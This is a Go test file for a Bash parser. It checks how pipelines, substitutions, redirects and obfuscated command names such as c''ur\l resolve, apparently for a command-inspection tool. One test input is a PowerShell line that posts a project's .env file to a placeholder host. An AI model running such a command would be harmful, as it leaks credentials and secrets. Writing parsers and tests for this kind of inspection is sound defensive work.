package shell

import (
	"fmt"
	"strings"
	"testing"

	"weir/internal/testrand"
)

// describe writes a script as [stage]word word <from >to … | …, statements on lines.
func describe(s Script) string {
	var b strings.Builder
	for i, p := range s {
		if i > 0 {
			b.WriteString(" ; ")
		}
		for j, c := range p {
			if j > 0 {
				b.WriteString(" , ")
			}
			fmt.Fprintf(&b, "%d:", c.Stage)
			if c.Function != "" {
				b.WriteString(" " + c.Function + "()")
			}
			for _, a := range c.Assigns {
				fmt.Fprintf(&b, " %s=%s", a.Name, a.Value.Text)
			}
			for _, w := range c.Words {
				b.WriteString(" " + [...]string{"", "<", ">", "<>", "<<"}[w.Redirect] + map[bool]string{true: "&"}[w.Duplicate] + w.Text)
				for _, inner := range w.Scripts() {
					b.WriteString("{" + describe(inner) + "}")
				}
				for _, inner := range w.Sinks() {
					b.WriteString(">{" + describe(inner) + "}")
				}
			}
		}
	}
	return b.String()
}

func TestParse(t *testing.T) {
	tests := []struct{ in, want string }{
		{`a b 'c d' "e f"`, `0: a b c d e f`},
		{`a | b|c; d && e`, `0: a , 1: b , 2: c ; 0: d , 0: e`},
		{`c''ur\l "x"y$'\x41'`, `0: curl xyA`},
		{`x=1 y="$z" a $x ${y:-w}`, `0: x=1 y=$z a $x ${y:-w}`},
		{"a $(b | c) `d`", "0: a $(b | c){0: b , 1: c} `d`{0: d}"},
		{`a < b > c 2>&1 <<< "d e"`, `0: a <b >c >&1 <<d e`},
		{"a <<E\nb $c\nE", "0: a <<b $c\n"},
		{`for f in x y; do a $f; done`, `0: f=x f=y , 0: a $f`},
		{`while read l; do a "$l"; done < b`, `0: read l <b , 0: a $l <b`},
		{`if a; then b; else c; fi | d`, `0: a , 0: b , 0: c , 1: d`},
		{`{ a; b; } | (c; d)`, `0: a , 0: b , 1: c , 1: d`},
		{`export k=v; time a`, `0: k=v export ; 0: a`},
		{`f() { a; }; case x in y) b;; esac`, `0: a , 0: f() ; 0: b`},
		{"a # b\nc", `0: a ; 0: c`},
		{"c$@url", "0: curl"},
		{"a ${x:-$(b)} $((1 + $(c)))", "0: a ${x:-$(b)}{0: b} $((1 + $(c))){0: c}"},
		{"[[ -n $(a) ]]; case $(b) in x) c;; esac; (( $(d) ))", "0: [[ $(a){0: a} ; 0: = , 0: c ; 0: = (("},
		{`export k=v "$x" > f; readonly k=(a b)`, `0: k=v export $x >f ; 0: k=a k=b readonly`},
		{"a > >(b) 3<> c <&3 >&$x >& d", "0: a >>(b)>{0: b} <>c <&3 >&$x >d"},
		{"a <(b | c)", "0: a <(b | c){0: b , 1: c}"},
		{`a "b\c\$d" b\c`, `0: a b\c$d bc`},
		// A text that is no Bash script is split into words.
		{`irm http://x.example -Body (Get-Content .env)`, `0: irm http://x.example -Body Get-Content .env`},
		{"a $(b | c) )(", "0: a $(b | c){0: b , 1: c}"},
		{"a $(b `c` ) )(", "0: a $(b `c` ){0: b `c`{0: c}}"},
		{"a b\n)(\nc d", `0: a b ; 0: c d`},
		{``, ``},
	}
	for _, tt := range tests {
		if got := describe(Parse(tt.in)); got != tt.want {
			t.Errorf("Parse(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestParseLong holds that the lexer reads what is too long or too deep for the parser.
func TestParseLong(t *testing.T) {
	for _, in := range []string{strings.Repeat("# a\n", maxParsed/4) + "last x", strings.Repeat("(", 3*maxNested) + "\nlast x"} {
		if got := describe(Parse(in)); !strings.HasSuffix(got, "last x") {
			t.Errorf("the last command of a script of %d bytes is lost", len(in))
		}
	}
}

// TestDeep holds that brackets are deep by how many are open, and not by how many there are.
func TestDeep(t *testing.T) {
	for text, want := range map[string]bool{
		strings.Repeat("(", maxNested):     false,
		strings.Repeat("(", maxNested+1):   true,
		strings.Repeat("{", maxNested+1):   true,
		strings.Repeat("()", 9*maxNested):  false,
		strings.Repeat(")", 9*maxNested):   false,
		strings.Repeat("a[b", maxNested+1): true,
	} {
		if got := deep(text); got != want {
			t.Errorf("deep of %d bytes of %q = %t, want %t", len(text), text[:3], got, want)
		}
	}
}

// TestLexDepth holds that the lexer follows substitutions to its depth, and says of what is deeper
// that it is unread.
func TestLexDepth(t *testing.T) {
	for depth, want := range map[int]string{
		0: "0: a $(b `c` d)",
		1: "0: a $(b `c` d){0: b `c` d}",
		2: "0: a $(b `c` d){0: b `c`{0: c} d}",
		3: "0: a $(b `c` d){0: b `c`{0: c} d}",
	} {
		var s Script
		lex("a $(b `c` d)", 0, depth, func(p Pipeline) { s = append(s, p) })
		if got := describe(s); got != want {
			t.Errorf("lex at depth %d = %q, want %q", depth, got, want)
		}
		if unread := s[0][0].Unread; unread != (depth == 0) {
			t.Errorf("lex at depth %d: unread %t", depth, unread)
		}
	}
}

// TestParseSpans holds that offsets lie in the text, whatever the text is.
func TestParseSpans(t *testing.T) {
	r := testrand.New(t)
	pieces := []string{"a", "curl ", "'", `"`, "`", "$(", ")", "(", "{", "}", "|", "&", ";", "\n", "<", "<<E\n", "<<<", ">", "\\", "$x", "${x", "}", "for x in ", "do ", "done", "if ", "then ", "fi", "\xf8", "é", "case ", " in ", "#", "[[", "]]", "((", "))", "function f "}
	for range 20000 {
		var in []byte
		for range 1 + r.IntN(12) {
			in = append(in, pieces[r.IntN(len(pieces))]...)
		}
		for _, p := range Parse(string(in)) {
			for _, c := range p {
				if c.Start < 0 || c.End > len(in) {
					t.Fatalf("Parse(%q): command at %d to %d", in, c.Start, c.End)
				}
			}
		}
	}
}
